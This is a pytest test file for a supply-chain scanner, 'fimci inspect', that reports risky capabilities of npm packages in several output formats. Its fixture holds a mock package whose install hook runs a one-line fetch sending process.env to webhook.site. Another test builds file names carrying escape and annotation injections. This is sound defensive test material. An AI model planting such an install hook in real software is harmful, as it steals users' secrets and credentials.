"""`fimci inspect`: what the code of a source can do, package by package, in every format."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import jsonschema
import pytest

from fimci import cli, inspect, tables
from fimci.findings import Severity
from fimci.inspection import Inspection
from fimci.policy import Policy
from fimci.sources.locator import parse

ROOT = Path(__file__).parent.parent
MODULES = {
    "package.json": '{"name": "app", "version": "1.0.0", "main": "index.js", "dependencies": {"left": "1"}}',
    "index.js": "module.exports = 1",
    "node_modules/left/package.json": (
        '{"name": "left", "version": "1.0.1", "scripts": {"install": "node s.js"}}'
    ),
    "node_modules/left/s.js": 'fetch("https://webhook.site/x?" + JSON.stringify(process.env))',
    "node_modules/idle/package.json": '{"name": "idle", "version": "2.0.0"}',
    "node_modules/idle/index.js": "module.exports = (a) => a + 1",
}


@pytest.fixture(autouse=True)
def _kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FIMCI_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("FIMCI_CACHE_KEY", "key")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    for path, text in MODULES.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    return folder


def inspected(folder: Path) -> Inspection:
    return inspect.inspect(inspect.taken(parse(f"dir:{folder}"), None))


def test_each_package_has_its_own_rows_worst_first(project: Path) -> None:
    found = {one.url: one for one in inspected(project).packages}
    assert list(found) == ["pkg:npm/left", "pkg:npm/app", "pkg:npm/idle"]
    left = found["pkg:npm/left"]
    assert (left.version, left.files) == ("1.0.1", 2)
    rows = {(row.name, row.phase): row for row in left.rows}
    assert rows["exfiltration", "install"].weight == Severity.CRITICAL
    assert rows["network", "install"].subjects == ("webhook.site",)
    assert rows["environment-bulk", "install"].seen[0].path == "node_modules/left/s.js"
    assert not found["pkg:npm/idle"].rows


def test_rules_speak_of_what_stands_alone(project: Path) -> None:
    report = inspect.risks(inspect.taken(parse(f"dir:{project}"), None), Policy(), dt.date(2026, 11, 1))
    assert {finding.rule for finding in report.findings} == {"exfiltration"}
    assert report.exit_code == 1


def test_a_tree_shows_who_needs_whom(project: Path) -> None:
    lines = tables.render("tree", inspected(project)).splitlines()
    assert lines[0].startswith("pkg:npm/app@1.0.0")
    assert lines[1].startswith("└─ pkg:npm/left@1.0.1 [install: ")
    assert lines[2].startswith("pkg:npm/idle@2.0.0 (2 files, nothing to tell)")


@pytest.mark.parametrize("name", ["text", "markdown", "json", "sarif", "tree"])
def test_the_command_writes_every_format(project: Path, name: str, tmp_path: Path) -> None:
    file = tmp_path / "out"
    assert cli.main(["inspect", str(project), "--format", f"{name}={file}"]) == 0
    text = file.read_text()
    assert "webhook.site" in text or name == "tree"
    assert "left" in text
    if name == "json":
        schema = json.loads((ROOT / "docs/schema/fimci-inspection-1.json").read_text())
        jsonschema.validate(json.loads(text), schema)
    if name == "sarif":
        (run,) = json.loads(text)["runs"]
        assert {result["level"] for result in run["results"]} == {"note"}
        assert all(result["ruleId"].startswith("can-") for result in run["results"])


def test_the_exit_code_tells_what_was_not_looked_at(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["inspect", str(project), "--rules"]) == 1
    (project / "index.js").unlink()
    (project / "index.js").symlink_to("gone.js")
    assert cli.main(["inspect", str(project)]) == 0
    (project / "package.json").write_text("{ no manifest")
    assert cli.main(["inspect", str(project)]) == 3
    assert "not looked at: package.json:1" in capsys.readouterr().out
    assert cli.main(["inspect", str(project), "--config", "x"]) == 2


def test_code_of_nobody_is_no_package(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "left.py").write_text("import os\nos.system('left')\n")
    assert cli.main(["inspect", str(tmp_path)]) == 0
    assert "looked at: 1 file, 0 packages" in capsys.readouterr().out


def test_hostile_names_stay_text(tmp_path: Path) -> None:
    folder = tmp_path / "evil"
    (folder / "node_modules" / "a\x1b[31m|`<b>").mkdir(parents=True)
    (folder / "node_modules" / "a\x1b[31m|`<b>" / "::error::\n.js").write_text('fetch("https://x.example/")')
    found = inspected(folder)
    for name in tables.ALL:
        text = tables.render(name, found)
        assert "\x1b" not in text
        assert not any(line.startswith("::error") for line in text.splitlines())
        assert name != "markdown" or "<b>" not in text
